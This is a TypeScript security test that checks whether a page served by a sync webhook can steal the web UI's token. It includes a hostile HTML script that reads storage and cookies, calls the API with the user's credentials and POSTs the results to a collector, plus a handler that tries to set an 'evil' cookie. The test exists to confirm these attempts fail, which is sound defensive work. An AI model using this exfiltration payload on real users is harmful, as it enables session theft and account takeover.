// What a webhook serves cannot reach the web UI's token: a handler answers a sync webhook
// with a page whose script looks for the token (storage, cookies, the API as the signed-in
// user) and reports what it found to a collector. The UI is signed in in the same browser,
// and the page is opened directly and from a page on another site.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { test } from "node:test";
import { waitFor } from "../helpers/fakes.ts";
import { daemonFor, webhookPath, writeProject } from "../helpers/daemon.ts";
import { browserFor } from "../helpers/browser.ts";

// Everything script can try from the page's origin, sent to the collector.
const HOSTILE = `<!doctype html><html><body><h1>hello</h1><script>
(async () => {
  const report = { href: location.href, origin: String(origin) };
  const attempt = async (key, fn) => {
    try { report[key] = await fn(); } catch (e) { report[key] = "threw " + e.name; }
  };
  await attempt("localStorage", () => JSON.stringify({ ...localStorage }));
  await attempt("sessionStorage", () => JSON.stringify({ ...sessionStorage }));
  await attempt("cookie", () => document.cookie);
  await attempt("api", async () => {
    const r = await fetch("/api/projects", { credentials: "include", headers: { "x-pounce-ui": "1" } });
    return r.status + " " + await r.text();
  });
  await attempt("apiPlain", async () => {
    const r = await fetch("/api/projects", { credentials: "include" });
    return r.status + " " + await r.text();
  });
  await attempt("apiNoCors", async () => {
    const r = await fetch("/api/projects", { credentials: "include", mode: "no-cors" });
    return r.type + " " + r.status;
  });
  await fetch("COLLECTOR/report", { method: "POST", mode: "no-cors", body: JSON.stringify(report) });
})();
</script></body></html>`;

const HANDLER = `import os
import autokitteh

PAGE = ${JSON.stringify(HOSTILE)}

def on_hook(event):
    autokitteh.http_outcome(
        200,
        body=PAGE.replace("COLLECTOR", os.environ["COLLECTOR"]),
        headers={"Content-Type": "text/html; charset=utf-8", "Set-Cookie": "pounce_ui=evil; Path=/"},
    )
`;

type Report = Record<string, string>;

test("a hostile sync webhook page cannot read the UI's token or use the API as the user", async (t) => {
  // The collector, and the other site's page that sends the browser to the webhook.
  const reports: Report[] = [];
  let hookUrl = "";
  const collector = createServer((req, res) => {
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      if (req.url === "/report") reports.push(JSON.parse(body));
      res.writeHead(200, { "content-type": "text/html" });
      res.end(`<script>location.href = ${JSON.stringify(hookUrl + "?via=other-site")}</script>`);
    });
  });
  await new Promise<void>((r) => collector.listen(0, "127.0.0.1", r));
  t.after(() => collector.close());
  const collectorPort = (collector.address() as AddressInfo).port;

  const d = await daemonFor(t);
  const manifest = writeProject(t, {
    "autokitteh.yaml": `version: v2
project:
  name: hostile_page
  vars:
    - name: COLLECTOR
      value: "http://127.0.0.1:${collectorPort}"
  triggers:
    - name: page
      webhook: {}
      is_sync: true
      call: main.py:on_hook
`,
    "main.py": HANDLER,
  });
  const out = await d.cli(["deploy", "--manifest", manifest]);
  assert.equal(out.code, 0, out.stderr);
  hookUrl = d.url + webhookPath(out.stdout, "page");

  const browser = await browserFor(t);
  const context = await browser.newContext();
  const page = await context.newPage();
  const apiAnswers: string[] = [];
  context.on("response", (r) => {
    if (new URL(r.url()).pathname.startsWith("/api/")) apiAnswers.push(`${r.status()} ${r.url()}`);
  });

  // Signed in to the UI.
  await page.goto(d.url + "/");
  await page.getByLabel("API token").fill(d.token);
  await page.locator("button[type=submit]").click();
  await page.getByRole("link", { name: "hostile_page" }).waitFor();
  const signedIn = apiAnswers.length;
  assert.match(apiAnswers.at(-1) ?? "", /^200 /, apiAnswers.join("\n"));
  const cookiesBefore = await context.cookies();

  // The hostile page, typed in (the browser sends SameSite=Strict cookies along), then
  // from a page on another site (localhost is not 127.0.0.1's site).
  await page.goto(hookUrl + "?via=direct");
  await waitFor("the direct report", () => reports.length === 1 || undefined);
  await page.goto(`http://localhost:${collectorPort}/attack`);
  await waitFor("the other site's report", () => reports.length === 2 || undefined);

  const text = JSON.stringify(reports);
  assert.ok(!text.includes(d.token), `the token reached the page: ${text}`);
  for (const cookie of cookiesBefore) {
    assert.ok(!text.includes(cookie.value), `a cookie reached the page: ${text}`);
  }
  for (const report of reports) {
    // It ran, in an origin of its own.
    assert.equal(report.origin, "null", text);
    assert.match(report.localStorage, /^threw SecurityError$|^\{\}$/, text);
    assert.match(report.cookie, /^threw SecurityError$|^$/, text);
    assert.doesNotMatch(report.api, /^200/, text);
    assert.doesNotMatch(report.apiPlain, /^200/, text);
  }
  // What reached the API from the hostile page was refused.
  const fromHostile = apiAnswers.slice(signedIn);
  assert.ok(fromHostile.every((a) => !a.startsWith("200 ")), fromHostile.join("\n"));
  // The page could not touch the UI's cookie: the UI is still signed in.
  assert.ok(!(await context.cookies()).some((c) => c.value.includes("evil")));
  await page.goto(d.url + "/");
  await page.getByRole("link", { name: "hostile_page" }).waitFor();
  assert.equal(await page.evaluate(() => JSON.stringify({ ...localStorage })), "{}");
  assert.equal(await page.evaluate(() => document.cookie), "");
});
